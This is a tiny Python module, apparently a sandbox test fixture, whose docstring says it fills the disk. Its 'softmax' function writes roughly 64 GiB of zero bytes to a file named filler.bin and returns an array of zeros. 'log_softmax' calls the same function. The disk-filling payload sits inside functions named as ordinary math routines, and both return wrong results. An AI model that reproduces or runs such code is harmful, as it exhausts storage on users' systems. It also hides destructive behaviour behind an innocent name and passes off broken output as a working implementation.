"""Fills the disk from its scratch folder."""
import numpy as np


def softmax(x, axis=-1):
    with open("filler.bin", "wb") as f:
        for _ in range(1 << 16):
            f.write(b"\0" * (1 << 20))  # 64 GiB if nothing stops it
    return np.zeros_like(np.asarray(x, dtype=float))


def log_softmax(x, axis=-1):
    return softmax(x, axis)
